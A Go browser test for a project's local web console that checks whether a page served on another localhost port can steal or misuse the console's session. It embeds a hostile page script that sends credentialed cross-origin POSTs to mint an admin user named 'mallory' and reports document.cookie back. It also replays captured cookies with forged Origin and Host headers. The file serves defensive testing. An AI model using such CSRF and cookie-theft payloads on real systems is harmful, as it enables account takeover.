package console_test

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/cotal-go/cotal/internal/await"
)

// elsewhere is a page another local user serves on 127.0.0.1, another port than the
// console's: it records the Cookie header of every request the browser sends it, and its
// script tries the console's actions from there, then reports what it could read of cookies.
type elsewhere struct {
	srv *httptest.Server

	mu      sync.Mutex
	cookies []string
	report  string
}

// elsewherePage posts to the console at CONSOLE as a hostile page can: no-cors fetches,
// which carry the browser's cookies for 127.0.0.1, of the actions' paths with and without a
// guessed session, then reports document.cookie and how each try ended.
const elsewherePage = `<!doctype html><title>elsewhere</title><script>
(async () => {
  const tries = [];
  for (const [path, body] of [["/act/mint", "name=mallory&profile=admin"], ["/s/GUESS/act/mint", "name=mallory&profile=admin"],
      ["/act/channel", "channel=general&class=live"]]) {
    try {
      await fetch("CONSOLE" + path, {method: "POST", mode: "no-cors", credentials: "include",
        headers: {"Content-Type": "application/x-www-form-urlencoded"}, body});
      tries.push(path + ": sent");
    } catch (e) { tries.push(path + ": " + e); }
  }
  await fetch("/report", {method: "POST", body: "cookie=" + document.cookie + "; " + tries.join("; ")});
})();
</script>`

func newElsewhere(t *testing.T, console string) *elsewhere {
	t.Helper()
	e := &elsewhere{}
	e.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		e.mu.Lock()
		defer e.mu.Unlock()
		e.cookies = append(e.cookies, r.Header.Values("Cookie")...)
		if r.URL.Path == "/report" {
			body, _ := io.ReadAll(r.Body)
			e.report = string(body)
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = io.WriteString(w, strings.ReplaceAll(elsewherePage, "CONSOLE", console))
	}))
	t.Cleanup(e.srv.Close)
	return e
}

func (e *elsewhere) seen() ([]string, string) {
	e.mu.Lock()
	defer e.mu.Unlock()
	return append([]string(nil), e.cookies...), e.report
}

// consoleCookie is the value of the console's cookie among Cookie headers, "" without one.
func consoleCookie(headers []string, name string) string {
	for _, h := range headers {
		for _, c := range strings.Split(h, ";") {
			if k, v, ok := strings.Cut(strings.TrimSpace(c), "="); ok && k == name {
				return v
			}
		}
	}
	return ""
}

func TestAPageOnAnotherPortGainsNothingFromTheConsolesSession(t *testing.T) {
	f := newFixture(t)
	f.send(t, f.alice, "general exists")
	ctx := browser(t)
	if err := chromedp.Do(ctx, chromedp.Navigate(f.con.URL(f.base))); err != nil {
		t.Fatalf("open the console: %v", err)
	}
	until(t, ctx, 10*time.Second, "the console signed in, its cookie out of reach of scripts",
		`location.pathname.startsWith("/s/") && !location.search.includes("token") && document.cookie === "" && document.querySelector('tr[data-name="alice"]') !== null`)

	other := newElsewhere(t, f.base)
	if err := chromedp.Do(ctx, chromedp.Navigate(other.srv.URL+"/")); err != nil {
		t.Fatalf("visit the page elsewhere: %v", err)
	}
	var report string
	await.True(t, 10*time.Second, "the page elsewhere to report", func() bool { _, report = other.seen(); return report != "" })
	headers, _ := other.seen()
	t.Logf("the page elsewhere got Cookie headers %q and reported %q", headers, report)

	t.Run("what reached the other port holds no token", func(t *testing.T) {
		if strings.Contains(strings.Join(headers, "\n"), f.con.Token()) || strings.Contains(report, f.con.Token()) {
			t.Fatal("the console token reached the page on another port")
		}
		if !strings.HasPrefix(report, "cookie=; ") {
			t.Fatalf("the page's script read cookies: %s", report)
		}
	})
	t.Run("the cookie it received opens nothing when replayed", func(t *testing.T) {
		name := "cotal_console_" + port(t, f.base)
		value := consoleCookie(headers, name)
		if value == "" {
			t.Skip("this browser sent the other port no console cookie: nothing to replay")
		}
		for _, tc := range []struct{ method, path, origin, host string }{
			{http.MethodGet, "/view/credentials", "", ""},
			{http.MethodGet, "/s/" + value + "/view/credentials", "", ""},
			{http.MethodPost, "/act/mint", f.base, ""},
			{http.MethodPost, "/act/mint", other.srv.URL, ""},
			{http.MethodGet, "/view/credentials", "", strings.TrimPrefix(other.srv.URL, "http://")},
		} {
			r, _ := http.NewRequest(tc.method, f.base+tc.path, strings.NewReader(url.Values{"name": {"mallory"}, "profile": {"admin"}}.Encode()))
			r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
			r.AddCookie(&http.Cookie{Name: name, Value: value})
			if tc.origin != "" {
				r.Header.Set("Origin", tc.origin)
			}
			if tc.host != "" {
				r.Host = tc.host
			}
			res, err := client.Do(r)
			if err != nil {
				t.Fatal(err)
			}
			res.Body.Close()
			if res.StatusCode < 400 {
				t.Errorf("%s %s (Origin %q, Host %q) with the replayed cookie: status %d, want a refusal", tc.method, tc.path, tc.origin, tc.host, res.StatusCode)
			}
		}
	})
	t.Run("its cross-origin POSTs changed nothing", func(t *testing.T) {
		f.viewShows(t, "/view/channels", []string{`<tr data-channel="general"><td>general</td><td class="class">durable</td>`}, nil)
		f.viewShows(t, "/view/credentials", []string{`data-name="alice"`}, []string{"mallory"})
	})
	t.Run("the browser's own console still works", func(t *testing.T) {
		if err := chromedp.Do(ctx, chromedp.NavigateBack()); err != nil {
			t.Fatal(err)
		}
		until(t, ctx, 10*time.Second, "the console again", fmt.Sprintf(`location.origin === %q && document.querySelector('tr[data-name="alice"]') !== null`, f.base))
	})
}
